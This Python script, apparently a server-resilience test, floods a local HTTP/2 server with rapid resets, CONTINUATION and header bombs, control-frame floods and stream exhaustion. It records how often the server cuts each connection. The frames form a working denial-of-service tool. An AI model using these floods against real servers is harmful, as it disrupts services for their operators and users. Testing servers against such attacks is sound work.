#!/usr/bin/python3
"""A client of HTTP/2 that means ill: connects, sends what KIND is until it is cut, and again.

    abuse.py PORT KIND SECONDS

Prints {"connections", "cut", "bytes"}."""

import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GET, POST = b"\x82\x86\x84\x41\x01a", b"\x83\x86\x84\x41\x01a"  # HPACK, RFC 7541
BATCH = 50
STREAMS = 250


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + \
        struct.pack(">I", stream) + payload


def u32(n):
    return struct.pack(">I", n)


def get(stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, GET)


def post(stream):
    return frame(HEADERS, END_HEADERS, stream, POST)


def setting(name, value):
    return frame(SETTINGS, payload=struct.pack(">HI", name, value))


def text(raw):
    """A string of HPACK without Huffman's code, 127 bytes and more."""
    n, out = len(raw) - 127, b"\x7f"
    while n >= 128:
        out, n = out + bytes((128 | n & 127,)), n >> 7
    return out + bytes((n,)) + raw


BOMB = GET + b"\x40\x06x-bomb" + text(b"b" * 3900)

# What is sent first on a connection, and then for each odd stream number.
KINDS = {
    "rapid reset": (b"", lambda n: get(n) + frame(RST, 0, n, u32(8))),
    "made resets": (b"", lambda n: post(n) + frame(WINDOW, 0, n, u32(0x7FFFFFFF))),
    "PING": (b"", lambda n: frame(PING, payload=b"x" * 8)),
    "SETTINGS": (b"", lambda n: setting(4, 65535)),
    "PRIORITY": (b"", lambda n: frame(PRIORITY, 0, 1001, u32(3) + b"\x0f")),
    "WINDOW_UPDATE": (b"", lambda n: frame(WINDOW, payload=u32(1))),
    "empty DATA": (post(1), lambda n: frame(DATA, 0, 1)),
    "CONTINUATION": (frame(HEADERS, END_STREAM, 1, GET), lambda n: frame(CONTINUATION, 0, 1)),
    "too many streams": (b"", post),
    "header bomb": (frame(HEADERS, END_STREAM | END_HEADERS, 1, BOMB),
                    lambda n: frame(HEADERS, END_STREAM | END_HEADERS, n + 2,
                                    GET + b"\xbe" * 16_000)),
    "windows of 0": (setting(4, 0), lambda n: get(n) if n < 2 * STREAMS else b""),
}  # fmt: skip


def attack(port, kind, until):
    """One connection, until it is cut (True) or the time is over. And what was sent."""
    first, each = KINDS[kind]
    sent, n = 0, 1
    with socket.create_connection(("127.0.0.1", port), 5) as sock:
        sock.settimeout(1)
        try:
            sock.sendall(PREFACE + frame(SETTINGS) + first)
            while time.monotonic() < until:
                data = b"".join(each(n + 2 * i) for i in range(BATCH))
                if not data:  # all that this kind is stands
                    time.sleep(0.05)
                sock.sendall(data)
                sent, n = sent + len(data), n + 2 * BATCH
                while select.select([sock], [], [], 0)[0]:
                    if not sock.recv(1 << 16):
                        return True, sent
        except OSError:  # reset, or it takes no more
            return True, sent
    return False, sent


def main():
    port, kind, seconds = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])
    until = time.monotonic() + seconds
    found = {"connections": 0, "cut": 0, "bytes": 0}
    while time.monotonic() < until:
        cut, sent = attack(port, kind, until)
        found["connections"] += 1
        found["cut"] += cut
        found["bytes"] += sent
    print(json.dumps(found))


if __name__ == "__main__":
    main()
